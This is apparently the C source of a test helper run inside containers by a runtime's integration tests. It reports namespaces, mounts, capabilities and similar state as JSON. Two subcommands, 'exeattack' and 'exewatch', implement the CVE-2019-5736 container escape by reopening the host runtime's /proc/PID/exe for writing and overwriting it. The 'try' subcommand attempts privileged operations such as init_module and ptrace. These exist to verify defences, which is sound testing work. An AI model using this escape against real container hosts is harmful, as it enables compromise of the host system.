/* probe: a tiny static program run INSIDE test containers by the integration tests.
 *
 * Each subcommand prints exactly one JSON object on stdout and exits 0; usage and system-call
 * errors go to stderr with exit status 1.  No dependency beyond libc, so it runs in a rootfs that
 * holds nothing else (built with -static).  See README.md for the list of subcommands.
 *
 * JSON strings are escaped byte by byte: control characters and bytes >= 0x80 become \u00XX, so
 * the output always parses, whatever a path or a mount option contains.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <sys/resource.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

#define UNUSED __attribute__((unused))

/* ---- minimal JSON emitter -------------------------------------------------------------------- */

#define MAX_DEPTH 16

static int first_in_level[MAX_DEPTH];
static int depth;
static int after_key; /* the next value follows "key": and needs no comma */

static void value_prefix(void)
{
    if (after_key) {
        after_key = 0;
        return;
    }
    if (depth > 0) {
        if (!first_in_level[depth])
            putchar(',');
        first_in_level[depth] = 0;
    }
}

static void emit_raw_string(const char *s)
{
    putchar('"');
    for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
        switch (*p) {
        case '"': fputs("\\\"", stdout); break;
        case '\\': fputs("\\\\", stdout); break;
        case '\n': fputs("\\n", stdout); break;
        case '\t': fputs("\\t", stdout); break;
        default:
            if (*p < 0x20 || *p >= 0x7f)
                printf("\\u%04x", *p);
            else
                putchar(*p);
        }
    }
    putchar('"');
}

static void begin(char c)
{
    value_prefix();
    putchar(c);
    if (depth + 1 < MAX_DEPTH)
        depth++;
    first_in_level[depth] = 1;
}

static void end(char c)
{
    putchar(c);
    if (depth > 0)
        depth--;
}

static void key(const char *k)
{
    value_prefix();
    emit_raw_string(k);
    putchar(':');
    after_key = 1;
}

static void v_str(const char *s)
{
    value_prefix();
    if (s)
        emit_raw_string(s);
    else
        fputs("null", stdout);
}

static void v_int(long long n)
{
    value_prefix();
    printf("%lld", n);
}

static void v_null(void)
{
    value_prefix();
    fputs("null", stdout);
}

static void v_bool(int b)
{
    value_prefix();
    fputs(b ? "true" : "false", stdout);
}

static void v_double(double d)
{
    value_prefix();
    printf("%.6f", d);
}

static void kv_str(const char *k, const char *s) { key(k); v_str(s); }
static void kv_int(const char *k, long long n) { key(k); v_int(n); }

static int finish(void)
{
    putchar('\n');
    return fflush(stdout) == 0 ? 0 : 1;
}

/* ---- helpers --------------------------------------------------------------------------------- */

static int fail(const char *what, const char *arg)
{
    int saved = errno;
    fprintf(stderr, "probe: %s %s: %s\n", what, arg ? arg : "", strerror(saved));
    return 1;
}

/* Reads a whole (small, procfs-like) file into buf, NUL-terminated; returns length or -1. */
static ssize_t read_file(const char *path, char *buf, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    size_t len = 0;
    while (len + 1 < size) {
        ssize_t n = read(fd, buf + len, size - 1 - len);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            int saved = errno;
            close(fd);
            errno = saved;
            return -1;
        }
        if (n == 0)
            break;
        len += (size_t)n;
    }
    buf[len] = '\0';
    close(fd);
    return (ssize_t)len;
}

static void strip_newline(char *s)
{
    size_t n = strlen(s);
    while (n > 0 && (s[n - 1] == '\n' || s[n - 1] == '\r'))
        s[--n] = '\0';
}

static const char *errno_name(int e)
{
    switch (e) {
    case 0: return "OK";
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case EACCES: return "EACCES";
    case EEXIST: return "EEXIST";
    case ENOTDIR: return "ENOTDIR";
    case EISDIR: return "EISDIR";
    case EINVAL: return "EINVAL";
    case ENOSPC: return "ENOSPC";
    case EROFS: return "EROFS";
    case EBADF: return "EBADF";
    case ENXIO: return "ENXIO";
    case ENODEV: return "ENODEV";
    case ESRCH: return "ESRCH";
    case ETXTBSY: return "ETXTBSY";
    case ENOEXEC: return "ENOEXEC";
    case EFAULT: return "EFAULT";
    case ENOSYS: return "ENOSYS";
    case EBUSY: return "EBUSY";
    default: return "OTHER";
    }
}

static const char *file_type(mode_t m)
{
    switch (m & S_IFMT) {
    case S_IFREG: return "file";
    case S_IFDIR: return "dir";
    case S_IFLNK: return "symlink";
    case S_IFCHR: return "char";
    case S_IFBLK: return "block";
    case S_IFIFO: return "fifo";
    case S_IFSOCK: return "socket";
    default: return "unknown";
    }
}

/* Emits the members describing one lstat() result (inside an already opened object). */
static void emit_stat_members(const char *path, const struct stat *st)
{
    kv_str("type", file_type(st->st_mode));
    kv_int("mode", st->st_mode & 07777);
    kv_int("uid", st->st_uid);
    kv_int("gid", st->st_gid);
    kv_int("size", (long long)st->st_size);
    kv_int("ino", (long long)st->st_ino);
    kv_int("nlink", (long long)st->st_nlink);
    kv_int("dev_major", major(st->st_dev));
    kv_int("dev_minor", minor(st->st_dev));
    if (S_ISCHR(st->st_mode) || S_ISBLK(st->st_mode)) {
        kv_int("major", major(st->st_rdev));
        kv_int("minor", minor(st->st_rdev));
    } else {
        key("major"); v_null();
        key("minor"); v_null();
    }
    key("target");
    if (S_ISLNK(st->st_mode)) {
        char target[PATH_MAX];
        ssize_t n = readlink(path, target, sizeof(target) - 1);
        if (n >= 0) {
            target[n] = '\0';
            v_str(target);
        } else {
            v_null();
        }
    } else {
        v_null();
    }
}

/* ---- subcommands ----------------------------------------------------------------------------- */

static int cmd_ns(int argc UNUSED, char **argv UNUSED)
{
    static const char *const names[] = {"pid", "net", "mnt", "ipc", "uts", "user", "cgroup", "time",
                                        "pid_for_children", "time_for_children"};
    begin('{');
    kv_int("pid", getpid());
    kv_int("ppid", getppid());
    key("ns");
    begin('{');
    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        char path[64];
        struct stat st;
        snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
        key(names[i]);
        if (stat(path, &st) == 0)
            v_int((long long)st.st_ino);
        else
            v_null();
    }
    end('}');
    end('}');
    return finish();
}

static int cmd_id(int argc UNUSED, char **argv UNUSED)
{
    static gid_t groups[NGROUPS_MAX];
    int n = getgroups(NGROUPS_MAX, groups);
    if (n < 0)
        return fail("getgroups", NULL);
    mode_t mask = umask(0);
    umask(mask);
    begin('{');
    kv_int("uid", getuid());
    kv_int("gid", getgid());
    kv_int("euid", geteuid());
    kv_int("egid", getegid());
    key("groups");
    begin('[');
    for (int i = 0; i < n; i++)
        v_int(groups[i]);
    end(']');
    kv_int("umask", mask);
    end('}');
    return finish();
}

static int cmd_hostname(int argc UNUSED, char **argv UNUSED)
{
    struct utsname u;
    if (uname(&u) < 0)
        return fail("uname", NULL);
    begin('{');
    kv_str("hostname", u.nodename);
    kv_str("domainname", u.domainname);
    end('}');
    return finish();
}

static int cmd_cwd(int argc UNUSED, char **argv UNUSED)
{
    char buf[PATH_MAX];
    if (!getcwd(buf, sizeof(buf)))
        return fail("getcwd", NULL);
    begin('{');
    kv_str("cwd", buf);
    end('}');
    return finish();
}

static int cmd_env(int argc UNUSED, char **argv UNUSED)
{
    begin('{');
    key("env");
    begin('[');
    for (char **e = environ; e && *e; e++)
        v_str(*e);
    end(']');
    end('}');
    return finish();
}

static int cmd_rlimits(int argc UNUSED, char **argv UNUSED)
{
    static const struct {
        const char *name;
        int resource;
    } limits[] = {
        {"RLIMIT_AS", RLIMIT_AS},         {"RLIMIT_CORE", RLIMIT_CORE},
        {"RLIMIT_CPU", RLIMIT_CPU},       {"RLIMIT_DATA", RLIMIT_DATA},
        {"RLIMIT_FSIZE", RLIMIT_FSIZE},   {"RLIMIT_LOCKS", RLIMIT_LOCKS},
        {"RLIMIT_MEMLOCK", RLIMIT_MEMLOCK}, {"RLIMIT_MSGQUEUE", RLIMIT_MSGQUEUE},
        {"RLIMIT_NICE", RLIMIT_NICE},     {"RLIMIT_NOFILE", RLIMIT_NOFILE},
        {"RLIMIT_NPROC", RLIMIT_NPROC},   {"RLIMIT_RSS", RLIMIT_RSS},
        {"RLIMIT_RTPRIO", RLIMIT_RTPRIO}, {"RLIMIT_RTTIME", RLIMIT_RTTIME},
        {"RLIMIT_SIGPENDING", RLIMIT_SIGPENDING}, {"RLIMIT_STACK", RLIMIT_STACK},
    };
    begin('{');
    for (size_t i = 0; i < sizeof(limits) / sizeof(limits[0]); i++) {
        struct rlimit rl;
        if (getrlimit(limits[i].resource, &rl) < 0)
            return fail("getrlimit", limits[i].name);
        key(limits[i].name);
        begin('{');
        /* unlimited is reported as -1 */
        kv_int("soft", rl.rlim_cur == RLIM_INFINITY ? -1 : (long long)rl.rlim_cur);
        kv_int("hard", rl.rlim_max == RLIM_INFINITY ? -1 : (long long)rl.rlim_max);
        end('}');
    }
    end('}');
    return finish();
}

/* Splits s at spaces into at most max fields (in place); returns the number of fields. */
static int split_fields(char *s, char **fields, int max)
{
    int n = 0;
    char *save = NULL;
    for (char *tok = strtok_r(s, " ", &save); tok && n < max; tok = strtok_r(NULL, " ", &save))
        fields[n++] = tok;
    return n;
}

/* mountinfo escapes space, tab, newline and backslash as \ooo: undo it in place. */
static char *unescape_octal(char *s)
{
    char *out = s;
    for (char *in = s; *in; ) {
        if (in[0] == '\\' && in[1] >= '0' && in[1] <= '7' && in[2] >= '0' && in[2] <= '7' &&
            in[3] >= '0' && in[3] <= '7') {
            *out++ = (char)((in[1] - '0') * 64 + (in[2] - '0') * 8 + (in[3] - '0'));
            in += 4;
        } else {
            *out++ = *in++;
        }
    }
    *out = '\0';
    return s;
}

static int cmd_mounts(int argc UNUSED, char **argv UNUSED)
{
    FILE *f = fopen("/proc/self/mountinfo", "re");
    if (!f)
        return fail("open", "/proc/self/mountinfo");
    char *line = NULL;
    size_t cap = 0;
    begin('{');
    key("mounts");
    begin('[');
    while (getline(&line, &cap, f) > 0) {
        strip_newline(line);
        char *fields[32];
        int n = split_fields(line, fields, 32);
        int sep = -1;
        for (int i = 6; i < n; i++) {
            if (strcmp(fields[i], "-") == 0) {
                sep = i;
                break;
            }
        }
        if (sep < 0 || sep + 2 >= n)
            continue;
        begin('{');
        kv_int("id", atoll(fields[0]));
        kv_int("parent", atoll(fields[1]));
        kv_str("dev", fields[2]);
        kv_str("root", unescape_octal(fields[3]));
        kv_str("mountpoint", unescape_octal(fields[4]));
        kv_str("options", fields[5]);
        key("optional");
        begin('[');
        for (int i = 6; i < sep; i++)
            v_str(fields[i]);
        end(']');
        kv_str("fstype", sep + 1 < n ? fields[sep + 1] : "");
        kv_str("source", sep + 2 < n ? unescape_octal(fields[sep + 2]) : "");
        kv_str("super_options", sep + 3 < n ? fields[sep + 3] : "");
        end('}');
    }
    end(']');
    end('}');
    free(line);
    fclose(f);
    return finish();
}

static int cmd_ls(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: probe ls PATH\n");
        return 1;
    }
    const char *dir = argv[2];
    DIR *d = opendir(dir);
    if (!d)
        return fail("opendir", dir);
    begin('{');
    kv_str("path", dir);
    key("entries");
    begin('{');
    for (struct dirent *de = readdir(d); de; de = readdir(d)) {
        if (strcmp(de->d_name, ".") == 0 || strcmp(de->d_name, "..") == 0)
            continue;
        char path[PATH_MAX];
        struct stat st;
        snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
        key(de->d_name);
        if (lstat(path, &st) < 0) {
            v_null();
            continue;
        }
        begin('{');
        emit_stat_members(path, &st);
        end('}');
    }
    end('}');
    end('}');
    closedir(d);
    return finish();
}

static int cmd_stat(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: probe stat PATH\n");
        return 1;
    }
    struct stat st;
    if (lstat(argv[2], &st) < 0)
        return fail("lstat", argv[2]);
    begin('{');
    kv_str("path", argv[2]);
    emit_stat_members(argv[2], &st);
    end('}');
    return finish();
}

static int cmd_fds(int argc UNUSED, char **argv UNUSED)
{
    DIR *d = opendir("/proc/self/fd");
    if (!d)
        return fail("opendir", "/proc/self/fd");
    int self = dirfd(d);
    begin('{');
    key("fds");
    begin('{');
    for (struct dirent *de = readdir(d); de; de = readdir(d)) {
        if (de->d_name[0] == '.')
            continue;
        if (atoi(de->d_name) == self)
            continue;
        char target[PATH_MAX];
        ssize_t n = readlinkat(self, de->d_name, target, sizeof(target) - 1);
        key(de->d_name);
        if (n < 0) {
            v_null();
            continue;
        }
        target[n] = '\0';
        v_str(target);
    }
    end('}');
    end('}');
    closedir(d);
    return finish();
}

static int cmd_exit(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: probe exit N\n");
        return 1;
    }
    fflush(stdout);
    _exit(atoi(argv[2]) & 0xff);
}

static int cmd_sleep(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: probe sleep SECONDS\n");
        return 1;
    }
    double secs = strtod(argv[2], NULL);
    struct timespec ts = {.tv_sec = (time_t)secs,
                          .tv_nsec = (long)((secs - (double)(time_t)secs) * 1e9)};
    while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
        ;
    begin('{');
    key("slept");
    v_double(secs);
    end('}');
    return finish();
}

/* write PATH TEXT: always prints {"path","ok","errno","errname","error"}; exit 0 when the write
 * succeeded, 1 when it failed (the JSON says why). */
static int cmd_write(int argc, char **argv)
{
    if (argc < 4) {
        fprintf(stderr, "usage: probe write PATH TEXT\n");
        return 1;
    }
    int err = 0;
    int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) {
        err = errno;
    } else {
        size_t len = strlen(argv[3]);
        ssize_t n = write(fd, argv[3], len);
        if (n < 0)
            err = errno;
        else if ((size_t)n != len)
            err = EIO;
        if (close(fd) < 0 && err == 0)
            err = errno;
    }
    begin('{');
    kv_str("path", argv[2]);
    key("ok");
    v_bool(err == 0);
    kv_int("errno", err);
    kv_str("errname", errno_name(err));
    kv_str("error", err ? strerror(err) : "");
    end('}');
    finish();
    return err ? 1 : 0;
}

static int cmd_read(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: probe read PATH\n");
        return 1;
    }
    static char buf[65536];
    if (read_file(argv[2], buf, sizeof(buf)) < 0)
        return fail("read", argv[2]);
    begin('{');
    kv_str("path", argv[2]);
    kv_str("content", buf);
    end('}');
    return finish();
}

static int cmd_sysctl(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: probe sysctl KEY\n");
        return 1;
    }
    char path[PATH_MAX];
    int n = snprintf(path, sizeof(path), "/proc/sys/%s", argv[2]);
    if (n < 0 || (size_t)n >= sizeof(path)) {
        fprintf(stderr, "probe: sysctl key too long\n");
        return 1;
    }
    for (char *p = path + strlen("/proc/sys/"); *p; p++)
        if (*p == '.')
            *p = '/';
    char buf[4096];
    if (read_file(path, buf, sizeof(buf)) < 0)
        return fail("read", path);
    strip_newline(buf);
    begin('{');
    kv_str("key", argv[2]);
    kv_str("value", buf);
    end('}');
    return finish();
}

static double clock_seconds(clockid_t id)
{
    struct timespec ts;
    if (clock_gettime(id, &ts) < 0)
        return -1;
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int cmd_time(int argc UNUSED, char **argv UNUSED)
{
    begin('{');
    key("monotonic");
    v_double(clock_seconds(CLOCK_MONOTONIC));
    key("boottime");
    v_double(clock_seconds(CLOCK_BOOTTIME));
    key("realtime");
    v_double(clock_seconds(CLOCK_REALTIME));
    end('}');
    return finish();
}

static int cmd_oom(int argc UNUSED, char **argv UNUSED)
{
    char buf[64];
    if (read_file("/proc/self/oom_score_adj", buf, sizeof(buf)) < 0)
        return fail("read", "/proc/self/oom_score_adj");
    begin('{');
    kv_int("oom_score_adj", atoll(buf));
    end('}');
    return finish();
}

/* Lines of /proc/self/status worth asserting on: capability sets, NoNewPrivs, Seccomp. */
static int cmd_caps(int argc UNUSED, char **argv UNUSED)
{
    static const char *const wanted[] = {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb",
                                         "NoNewPrivs", "Seccomp", "Umask"};
    FILE *f = fopen("/proc/self/status", "re");
    if (!f)
        return fail("open", "/proc/self/status");
    char *line = NULL;
    size_t cap = 0;
    begin('{');
    while (getline(&line, &cap, f) > 0) {
        strip_newline(line);
        char *colon = strchr(line, ':');
        if (!colon)
            continue;
        *colon = '\0';
        for (size_t i = 0; i < sizeof(wanted) / sizeof(wanted[0]); i++) {
            if (strcmp(line, wanted[i]) == 0) {
                const char *v = colon + 1;
                while (*v == ' ' || *v == '\t')
                    v++;
                kv_str(line, v);
            }
        }
    }
    end('}');
    free(line);
    fclose(f);
    return finish();
}

static int cmd_nnp(int argc UNUSED, char **argv UNUSED)
{
    int r = prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0);
    if (r < 0)
        return fail("prctl", "PR_GET_NO_NEW_PRIVS");
    begin('{');
    kv_int("no_new_privs", r);
    end('}');
    return finish();
}

static int cmd_cgroup(int argc UNUSED, char **argv UNUSED)
{
    FILE *f = fopen("/proc/self/cgroup", "re");
    if (!f)
        return fail("open", "/proc/self/cgroup");
    char *line = NULL;
    size_t cap = 0;
    begin('{');
    key("cgroups");
    begin('[');
    while (getline(&line, &cap, f) > 0) {
        strip_newline(line);
        v_str(line);
    }
    end(']');
    end('}');
    free(line);
    fclose(f);
    return finish();
}

static int cmd_args(int argc, char **argv)
{
    begin('{');
    key("argv");
    begin('[');
    for (int i = 0; i < argc; i++)
        v_str(argv[i]);
    end(']');
    end('}');
    return finish();
}

static int cmd_keyring(int argc UNUSED, char **argv UNUSED)
{
    /* KEYCTL_GET_KEYRING_ID (0) of KEY_SPEC_SESSION_KEYRING (-3), without creating one */
    long id = syscall(SYS_keyctl, 0, -3, 0);
    if (id < 0)
        return fail("keyctl", "session keyring");
    begin('{');
    kv_int("session_keyring", id);
    end('}');
    return finish();
}

/* try OP ARGS: one attempt a container should (or should not) be able to make, reported as
 * {"op", "ok", "errno", "errname"}; exit status 0 either way. */
static int report_try(const char *op, int r)
{
    int e = r < 0 ? errno : 0;
    begin('{');
    kv_str("op", op);
    key("ok");
    v_bool(r >= 0);
    kv_int("errno", e);
    kv_str("errname", errno_name(e));
    end('}');
    return finish();
}

static int try_open(const char *path, const char *mode)
{
    int flags = strcmp(mode, "w") == 0 ? O_WRONLY : strcmp(mode, "rw") == 0 ? O_RDWR : O_RDONLY;
    int fd = open(path, flags | O_CLOEXEC);
    if (fd >= 0)
        close(fd);
    return fd;
}

static int cmd_try(int argc, char **argv)
{
    if (argc < 3)
        return fail("usage", "try OP ARGS");
    const char *op = argv[2];
    int r = -1;
    if (strcmp(op, "mknod") == 0 && argc == 7)
        r = mknod(argv[3], (argv[4][0] == 'b' ? S_IFBLK : S_IFCHR) | 0600,
                  makedev(atoi(argv[5]), atoi(argv[6])));
    else if (strcmp(op, "open") == 0 && argc == 5)
        r = try_open(argv[3], argv[4]);
    else if (strcmp(op, "chown") == 0 && argc == 6)
        r = chown(argv[3], atoi(argv[4]), atoi(argv[5]));
    else if (strcmp(op, "mkdir") == 0 && argc == 4)
        r = mkdir(argv[3], 0755);
    else if (strcmp(op, "init_module") == 0) {
        static const char junk[64] = "not a kernel module";
        r = (int)syscall(SYS_init_module, junk, sizeof junk, "");
    } else if (strcmp(op, "ptrace") == 0 && argc == 4) {
        pid_t pid = atoi(argv[3]);
        r = (int)ptrace(PTRACE_ATTACH, pid, NULL, NULL);
        if (r == 0) {
            waitpid(pid, NULL, __WALL);
            ptrace(PTRACE_DETACH, pid, NULL, NULL);
        }
    } else if (strcmp(op, "mount") == 0 && argc == 4)
        r = mount("tmpfs", argv[3], "tmpfs", 0, NULL);
    else if (strcmp(op, "sethostname") == 0 && argc == 4)
        r = sethostname(argv[3], strlen(argv[3]));
    else if (strcmp(op, "openat") == 0 && argc == 5) {
        r = openat(atoi(argv[3]), argv[4], O_RDONLY | O_CLOEXEC);
        if (r >= 0)
            close(r);
    } else
        return fail("usage", "try mknod PATH b|c MAJ MIN | open PATH r|w|rw | chown PATH UID GID | mkdir PATH"
                    " | init_module | ptrace PID | mount PATH | sethostname NAME | openat FD PATH");
    return report_try(op, r);
}

/* exeattack PID SECONDS: CVE-2019-5736.  Hold /proc/PID/exe (the runtime's binary while PID is
 * still the runtime) and, once PID has exec'd something else and the file is no longer busy,
 * reopen it for writing and write to it.  "ready" on stderr once the fd is held. */
static int cmd_exeattack(int argc, char **argv)
{
    char path[64];
    if (argc != 4)
        return fail("usage", "exeattack PID SECONDS");
    snprintf(path, sizeof path, "/proc/%s/exe", argv[2]);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return fail("open", path);
    fprintf(stderr, "ready\n");
    fflush(stderr);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int wfd = -1, e = 0;
    long written = -1;
    for (int i = 0; i < atoi(argv[3]) * 100; i++) {
        wfd = open(path, O_WRONLY | O_CLOEXEC);
        if (wfd >= 0 || errno != ETXTBSY)
            break;
        usleep(10000);
    }
    if (wfd < 0)
        e = errno;
    else {
        written = write(wfd, "CAPSA-PWNED", 11);
        if (written < 0)
            e = errno;
        close(wfd);
    }
    begin('{');
    key("opened");
    v_bool(wfd >= 0);
    kv_int("written", written);
    kv_int("errno", e);
    kv_str("errname", errno_name(e));
    end('}');
    return finish();
}

/* exewatch SECONDS: CVE-2019-5736 against a runtime that runs containers in-process (`capsa run`,
 * `capsa exec`): watch /proc for a new process whose executable is none of the container's (not
 * on /'s filesystem, not this probe), hold its /proc/PID/exe, and once that file is no longer busy
 * reopen it for writing and write to it.  "ready" on stderr once the watch has begun.  "denied"
 * counts the /proc/PID/exe opens refused (a non-dumpable process), "sealed" says whether what
 * was held is a sealed memfd. */
static int exe_is_foreign(int fd, const struct stat *root, const struct stat *self)
{
    struct stat st;
    if (fstat(fd, &st) < 0 || !S_ISREG(st.st_mode) || st.st_dev == root->st_dev)
        return 0;
    return !(st.st_dev == self->st_dev && st.st_ino == self->st_ino);
}

/* One pass over /proc: an O_PATH fd of a foreign executable, or -1. */
static int exe_scan(const struct stat *root, const struct stat *self, int *denied)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    int held = -1;
    while (d && held < 0 && (e = readdir(d)) != NULL) {
        char path[64];
        if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
            continue;
        snprintf(path, sizeof path, "/proc/%d/exe", atoi(e->d_name));
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0 && (errno == EACCES || errno == EPERM))
            (*denied)++;
        if (fd >= 0 && exe_is_foreign(fd, root, self))
            held = fd;
        else if (fd >= 0)
            close(fd);
    }
    if (d)
        closedir(d);
    return held;
}

static int cmd_exewatch(int argc, char **argv)
{
    struct stat root, self;
    if (argc != 3)
        return fail("usage", "exewatch SECONDS");
    if (stat("/", &root) < 0 || stat("/proc/self/exe", &self) < 0)
        return fail("stat", "/");
    time_t deadline = time(NULL) + atoi(argv[2]);
    int denied = 0, held = -1, wfd = -1, e = 0, sealed = 0;
    long written = -1;
    fprintf(stderr, "ready\n");
    fflush(stderr);
    while (held < 0 && time(NULL) < deadline)
        held = exe_scan(&root, &self, &denied);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    if (held >= 0) {
        int r = open(path, O_RDONLY | O_CLOEXEC);
        sealed = r >= 0 && fcntl(r, F_GET_SEALS) > 0;
        if (r >= 0)
            close(r);
    }
    while (held >= 0 && time(NULL) <= deadline) {
        wfd = open(path, O_WRONLY | O_CLOEXEC);
        if (wfd >= 0 || errno != ETXTBSY)
            break;
        usleep(10000);
    }
    if (held >= 0 && wfd < 0)
        e = errno;
    else if (wfd >= 0) {
        written = write(wfd, "CAPSA-PWNED", 11);
        if (written < 0)
            e = errno;
        close(wfd);
    }
    begin('{');
    key("held");
    v_bool(held >= 0);
    key("sealed");
    v_bool(sealed);
    kv_int("denied", denied);
    key("opened");
    v_bool(wfd >= 0);
    kv_int("written", written);
    kv_int("errno", e);
    kv_str("errname", errno_name(e));
    end('}');
    return finish();
}

/* udprecv PORT: wait (at most 20 s) for one UDP datagram on PORT and print it. */
static int cmd_udprecv(int argc, char **argv)
{
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argc == 3 ? argv[2] : "0"))};
    char buf[512];
    struct timeval tv = {20, 0};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (argc != 3 || fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof a) < 0)
        return fail("bind", argc == 3 ? argv[2] : "usage: udprecv PORT");
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    fprintf(stderr, "ready\n");
    ssize_t n = recv(fd, buf, sizeof buf - 1, 0);
    if (n < 0)
        return fail("recv", argv[2]);
    buf[n] = '\0';
    begin('{');
    kv_str("received", buf);
    end('}');
    return finish();
}

/* notify MSG: send MSG as one datagram to $NOTIFY_SOCKET (sd_notify). */
static int cmd_notify(int argc, char **argv)
{
    const char *path = getenv("NOTIFY_SOCKET");
    struct sockaddr_un addr = {.sun_family = AF_UNIX};
    if (argc != 3 || path == NULL || strlen(path) >= sizeof addr.sun_path)
        return fail("usage", "notify MSG (with NOTIFY_SOCKET set)");
    strcpy(addr.sun_path, path);
    int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (fd < 0 || sendto(fd, argv[2], strlen(argv[2]), 0, (struct sockaddr *)&addr, sizeof addr) < 0)
        return fail("sendto", path);
    begin('{');
    kv_str("sent", argv[2]);
    kv_str("socket", path);
    end('}');
    return finish();
}

static const struct {
    const char *name;
    int (*fn)(int argc, char **argv);
    const char *help;
} commands[] = {
    {"ns", cmd_ns, "pid, ppid and the inode of each /proc/self/ns/*"},
    {"id", cmd_id, "uid, gid, euid, egid, groups, umask"},
    {"hostname", cmd_hostname, "hostname and domainname (uname)"},
    {"cwd", cmd_cwd, "current directory"},
    {"env", cmd_env, "environment"},
    {"rlimits", cmd_rlimits, "every RLIMIT_* soft/hard (-1 = unlimited)"},
    {"mounts", cmd_mounts, "/proc/self/mountinfo, parsed"},
    {"ls", cmd_ls, "PATH: directory entries with lstat data and symlink targets"},
    {"stat", cmd_stat, "PATH: lstat data"},
    {"fds", cmd_fds, "open fds and their targets"},
    {"exit", cmd_exit, "N: exit with status N, printing nothing"},
    {"sleep", cmd_sleep, "SECONDS: sleep, then print"},
    {"write", cmd_write, "PATH TEXT: create/truncate PATH and write TEXT; errno reported"},
    {"read", cmd_read, "PATH: contents of PATH"},
    {"sysctl", cmd_sysctl, "KEY: value of /proc/sys/KEY (dots become slashes)"},
    {"time", cmd_time, "CLOCK_MONOTONIC, CLOCK_BOOTTIME, CLOCK_REALTIME in seconds"},
    {"oom", cmd_oom, "/proc/self/oom_score_adj"},
    {"caps", cmd_caps, "Cap*, NoNewPrivs, Seccomp, Umask from /proc/self/status"},
    {"nnp", cmd_nnp, "prctl(PR_GET_NO_NEW_PRIVS)"},
    {"cgroup", cmd_cgroup, "lines of /proc/self/cgroup"},
    {"args", cmd_args, "argv as received"},
    {"keyring", cmd_keyring, "serial of the session keyring"},
    {"notify", cmd_notify, "MSG: send MSG to $NOTIFY_SOCKET"},
    {"udprecv", cmd_udprecv, "PORT: print one UDP datagram received on PORT"},
    {"try", cmd_try, "OP ARGS: one privileged attempt (mknod, open, chown, init_module, ptrace, ...)"},
    {"exeattack", cmd_exeattack, "PID SECONDS: try to overwrite PID's executable once it is not busy"},
    {"exewatch", cmd_exewatch, "SECONDS: overwrite the executable of the next process of another binary"},
};

static int usage(FILE *out)
{
    fprintf(out, "usage: probe COMMAND [ARGS]\n");
    for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
        fprintf(out, "  %-9s %s\n", commands[i].name, commands[i].help);
    return out == stdout ? 0 : 1;
}

int main(int argc, char **argv)
{
    if (argc < 2)
        return usage(stderr);
    if (strcmp(argv[1], "-h") == 0 || strcmp(argv[1], "--help") == 0)
        return usage(stdout);
    for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
        if (strcmp(argv[1], commands[i].name) == 0)
            return commands[i].fn(argc, argv);
    fprintf(stderr, "probe: unknown command '%s'\n", argv[1]);
    return usage(stderr);
}
